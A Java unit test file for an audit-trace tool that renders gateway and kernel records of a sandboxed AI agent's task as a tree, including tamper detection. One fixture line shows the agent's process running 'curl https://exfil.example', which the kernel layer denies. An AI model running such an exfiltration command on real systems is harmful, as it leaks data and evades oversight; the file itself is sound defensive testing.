// SPDX-FileCopyrightText: the Bailiwick authors
// SPDX-License-Identifier: Apache-2.0
package dev.bailiwick.audit;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.OptionalInt;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

class AuditTraceTest {

  @TempDir Path dir;
  private TestTrail gateway;
  private TestTrail enforcer;

  @BeforeEach
  void setUp() {
    gateway = new TestTrail(dir.resolve("audit"), "gateway-a");
    enforcer = new TestTrail(dir.resolve("audit"), "enforcer-a");
  }

  private void writeStory() {
    gateway.write(
        called(1, true, "planner"),
        TestRecords.allowed(2),
        TestRecords.decision(3, "another-task", true),
        created(4),
        TestRecords.answer(5, 4),
        TestRecords.decision(6, TestRecords.TASK, false));
    enforcer.write(
        TestRecords.started(0),
        TestRecords.kernelDenial(3),
        TestRecords.lost(7),
        TestRecords.ended(8));
  }

  private static AuditRecord called(int n, boolean allowed, String... actors) {
    AuditRecord.GatewayDecision like = TestRecords.decision(n, TestRecords.TASK, allowed);
    return with(like, TestRecords.caller(TestRecords.TASK, actors), like.upstreamStatus());
  }

  /** A write: recorded before it is sent, so without a status. */
  private static AuditRecord created(int n) {
    AuditRecord.GatewayDecision like = TestRecords.allowed(n);
    return with(like, like.caller().orElseThrow(), OptionalInt.empty());
  }

  private static AuditRecord with(
      AuditRecord.GatewayDecision like, AuditRecord.Caller caller, OptionalInt status) {
    return new AuditRecord.GatewayDecision(
        like.time(),
        like.correlationId(),
        like.allowed(),
        like.code(),
        like.sentence(),
        like.policy(),
        Optional.of(caller),
        like.connector(),
        like.method(),
        like.target(),
        like.operations(),
        like.credential(),
        status,
        like.sourceAddress());
  }

  @Test
  void toTextWhenGatewayAndKernelRecordedThenDrawsOneTree() {
    writeStory();

    String text = AuditTrace.of(gateway.directory(), TestRecords.TASK).toText();

    assertThat(text)
        .isEqualTo(
            """
            Task txn-4711
            2026-11-23 10:00:00.000 to 10:00:08.000 UTC
            4 calls, 3 allowed, 1 denied, 1 kernel denial, 12 kernel events lost

            alice@acme.example  (https://login.acme.example)
            └─ planner
               ├─ 10:00:01.000  ✓ allowed servicenow GET /api/now/table/incident → 200
               │                  operations  servicenow:table/incident:read
               │                  credential  vault:servicenow/acme
               │                  call        call-1, token jti-2 from jti-1, policy support-triage 7
               └─ triage-agent
                  ├─ 10:00:00.000  · sandbox sandbox-1 started
                  │                  process     python agent.py (pid 4700, uid 1001)
                  │                  asked by    uid 1234
                  │                  policy      support-triage 7
                  │                  enforced    cgroup-bpf, landlock
                  │                  missing     bpf-lsm
                  ├─ 10:00:02.000  ✓ allowed servicenow GET /api/now/table/incident → 200
                  │                  operations  servicenow:table/incident:read
                  │                  credential  vault:servicenow/acme
                  │                  call        call-2, token jti-2 from jti-1, policy support-triage 7
                  ├─ 10:00:03.000  ✗ denied  kernel udp 198.51.100.7:53
                  │                  process     curl https://exfil.example (pid 4711, uid 1001) in sandbox-1
                  │                  layer       cgroup-bpf connect4
                  ├─ 10:00:04.000  ✓ allowed servicenow GET /api/now/table/incident → 201
                  │                  operations  servicenow:table/incident:read
                  │                  credential  vault:servicenow/acme
                  │                  call        call-4, token jti-2 from jti-1, policy support-triage 7
                  ├─ 10:00:06.000  ✗ denied  servicenow PATCH /api/now/table/incident
                  │                  rule        SCOPE_MISSING: The grant lacks update.
                  │                  operations  servicenow:table/incident:update
                  │                  call        call-6, token jti-2 from jti-1, policy support-triage 7
                  ├─ 10:00:07.000  ! 12 kernel events lost here: this trace has a gap
                  └─ 10:00:08.000  · sandbox sandbox-1 ended with 0
            """);
  }

  @Test
  void toJsonWhenGatewayAndKernelRecordedThenSameTree() {
    writeStory();

    JsonNode json =
        JsonMapper.shared().readTree(AuditTrace.of(gateway.directory(), TestRecords.TASK).toJson());

    assertThat(json.path("task").stringValue()).isEqualTo("txn-4711");
    assertThat(json.path("allowed").intValue()).isEqualTo(3);
    assertThat(json.path("denied").intValue()).isEqualTo(1);
    assertThat(json.path("kernel_denials").intValue()).isEqualTo(1);
    assertThat(json.path("events_lost").intValue()).isEqualTo(12);
    JsonNode principal = json.path("branches").path(0);
    assertThat(principal.path("subject").stringValue()).isEqualTo("alice@acme.example");
    JsonNode planner = principal.path("branches").path(0);
    assertThat(planner.path("subject").stringValue()).isEqualTo("planner");
    JsonNode agent = planner.path("branches").path(0);
    assertThat(agent.path("subject").stringValue()).isEqualTo("triage-agent");
    assertThat(agent.path("steps").valueStream().map(step -> step.path("kind").stringValue()))
        .containsExactly(
            "sandbox-started",
            "gateway-decision",
            "kernel-denial",
            "gateway-decision",
            "gateway-decision",
            "events-lost",
            "sandbox-ended");
    assertThat(agent.path("steps").path(3).path("answer").path("status").intValue()).isEqualTo(201);
    assertThat(agent.path("steps").path(2).path("process").path("pid").intValue()).isEqualTo(4711);
  }

  @Test
  void toTextWhenAProgramMeetsTheSameWallAgainThenDrawsItOnce() {
    enforcer.write(
        TestRecords.kernelDenial(1), TestRecords.kernelDenial(2), TestRecords.kernelDenial(3));

    String text = AuditTrace.of(enforcer.directory(), TestRecords.TASK).toText();

    assertThat(text).contains("3 kernel denials").contains("(3 times)");
    assertThat(text.lines().filter(line -> line.contains("✗ denied"))).hasSize(1);
  }

  @Test
  void ofWhenNothingNamesTheTaskThenEmpty() {
    writeStory();

    AuditTrace trace = AuditTrace.of(gateway.directory(), "txn-47");

    assertThat(trace.isEmpty()).isTrue();
    assertThat(trace.toText()).isEqualTo("No record names the task txn-47.\n");
  }

  @Test
  void ofWhenALineWasChangedThenLeavesItOutAndSaysSo() throws IOException {
    writeStory();
    List<String> lines = new ArrayList<>(gateway.lines(1));
    lines.set(1, lines.get(1).replace("alice", "mallory"));
    gateway.replaceLines(1, lines);

    AuditTrace trace = AuditTrace.of(gateway.directory(), TestRecords.TASK);

    assertThat(trace.toText())
        .contains("3 calls, 2 allowed, 1 denied")
        .doesNotContain("mallory")
        .endsWith(
            "! 1 line naming this task was changed after it was written and is left out: run"
                + " `bailiwick audit verify`.\n");
  }

  @Test
  void ofWhenOnlyTheKernelRecordedThenSandboxIsItsOwnBranch() {
    enforcer.write(TestRecords.started(0), TestRecords.kernelDenial(3));

    AuditTrace trace = AuditTrace.of(enforcer.directory(), TestRecords.TASK);

    assertThat(trace.toText())
        .contains("0 calls, 0 allowed, 0 denied, 1 kernel denial\n")
        .contains("\nsandbox sandbox-1  (agent triage-agent)\n├─ 10:00:00.000  · sandbox");
  }

  @Test
  void ofWhenItLastsOverMidnightThenStepsNameTheDay() {
    gateway.write(
        TestRecords.allowed(1), TestRecords.allowed((int) Duration.ofHours(15).toSeconds()));

    assertThat(AuditTrace.of(gateway.directory(), TestRecords.TASK).toText())
        .contains("2026-11-23 10:00:01.000 to 2026-11-24 01:00:00.000 UTC")
        .contains("├─ 11-23 10:00:01.000  ✓")
        .contains("└─ 11-24 01:00:00.000  ✓");
  }

  @Test
  void ofWhenThereAreThousandsOfRecordsThenFindsTheOnesOfTheTask() {
    try (FileAuditLog log = FileAuditLog.open(gateway.options().withSegmentBytes(500_000))) {
      for (int n = 0; n < 10_000; n++) {
        log.append(TestRecords.decision(n, "txn-" + n % 100, true));
      }
    }

    AuditTrace trace = AuditTrace.of(gateway.directory(), "txn-7");

    assertThat(gateway.segment(20)).exists();
    assertThat(trace.steps()).hasSize(100);
    assertThat(trace.toText()).contains("100 calls, 100 allowed, 0 denied");
  }

  @Test
  void ofWhenTheDirectoryIsMissingThenSaysSo() {
    assertThatThrownBy(() -> AuditTrace.of(dir.resolve("missing"), "txn-1"))
        .isInstanceOf(AuditException.class)
        .hasMessageContaining("cannot be read")
        .hasMessageContaining("name its directory");
  }

  @Test
  void ofWhenReadThenNothingIsModified() throws IOException {
    writeStory();
    long before = Files.getLastModifiedTime(gateway.segment(1)).toMillis();

    AuditTrace.of(gateway.directory(), TestRecords.TASK);

    assertThat(Files.getLastModifiedTime(gateway.segment(1)).toMillis()).isEqualTo(before);
  }
}
